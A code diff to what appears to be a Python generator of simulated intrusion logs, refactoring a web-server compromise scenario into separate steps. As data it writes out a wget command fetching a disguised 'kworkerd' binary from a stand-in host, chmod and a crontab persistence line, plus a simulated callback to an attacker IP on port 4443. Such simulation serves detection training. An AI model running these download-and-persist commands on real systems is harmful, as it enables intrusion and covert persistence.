@@ -18,21 +18,27 @@ ATTACKER: Final = "203.0.113.232"
 TOOLS: Final = Site("mirror-pkg.example.org", "203.0.113.233", is_plain=True)
 _BROWSER: Final = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
 _SHELL: Final = "/uploads/2026/thumb_db.php"
+_TOOL: Final = "/tmp/.kworkerd"  # noqa: S108 - the intruder's path, as it stands in the logs; nothing is written there
 
 
 def write(script: Script) -> None:
     """Write the campaign."""
-    server = script.organisation.first("web")
     _enter(script)
+    _settle(script)
+    _call(script)
+
+
+def _settle(script: Script) -> None:
+    server = script.organisation.first("web")
 
     def fetch_tools(scene: Scene, time_us: int, mark: int) -> None:
-        command = f"wget -q http://{TOOLS.name}/kworkerd -O /tmp/.kworkerd"
+        command = f"wget -q http://{TOOLS.name}/kworkerd -O {_TOOL}"
         pid = linux.run(
             scene,
             time_us,
             server,
             "www-data",
-            ("sh", "-c", f"{command}; chmod +x /tmp/.kworkerd"),
+            ("sh", "-c", f"{command}; chmod +x {_TOOL}"),
             "/usr/bin/dash",
             mark,
             parent_pid=1021,
@@ -44,7 +50,7 @@ def write(script: Script) -> None:
         )
         request = Request("GET", TOOLS.name, "/kworkerd", "Wget/1.21.4", 200, 0, 1_204_224, "application/x-executable")
         network.fetch(scene, time_us + 40_000, server, TOOLS, request, mark)
-        words = ("chmod", "+x", "/tmp/.kworkerd")  # noqa: S108 - the intruder's path, in a log
+        words = ("chmod", "+x", _TOOL)
         linux.run(
             scene,
             time_us + 3 * SECOND,
@@ -58,10 +64,10 @@ def write(script: Script) -> None:
         )
 
     step = script.step("tools", "T1105", "The web server fetches a program", "Web 服务器下载程序")
-    script.plant(step, script.at(0.5, 20.3), server, "www-data", fetch_tools, domain=TOOLS.name, file="/tmp/.kworkerd")  # noqa: S108 - likewise
+    script.plant(step, script.at(0.5, 20.3), server, "www-data", fetch_tools, domain=TOOLS.name, file=_TOOL)
 
     def stay(scene: Scene, time_us: int, mark: int) -> None:
-        command = '(crontab -l; echo "*/30 * * * * /tmp/.kworkerd") | crontab -'
+        command = f'(crontab -l; echo "*/30 * * * * {_TOOL}") | crontab -'
         pid = linux.run(
             scene, time_us, server, "www-data", ("sh", "-c", command), "/usr/bin/dash", mark, parent_pid=1021
         )
@@ -82,9 +88,13 @@ def write(script: Script) -> None:
     step = script.step("job", "T1053.003", "A job starts it every half hour", "定时任务每半小时启动一次")
     script.plant(step, script.at(0.5, 20.6), server, "www-data", stay, file="/var/spool/cron/crontabs/www-data")
 
+
+def _call(script: Script) -> None:
+    server = script.organisation.first("web")
+
     def run_job(scene: Scene, time_us: int, mark: int) -> None:
-        linux.job(scene, time_us, server, "www-data", "/tmp/.kworkerd", mark)  # noqa: S108 - likewise
-        words = ("/tmp/.kworkerd",)  # noqa: S108 - likewise
+        linux.job(scene, time_us, server, "www-data", _TOOL, mark)
+        words = (_TOOL,)
         linux.run(scene, time_us + 6_000, server, "www-data", words, words[0], mark, parent_pid=811)
         network.connect(scene, time_us + SECOND, server.address, ATTACKER, 4443, "", 50 * SECOND, 4_100, 2_900, mark)
 
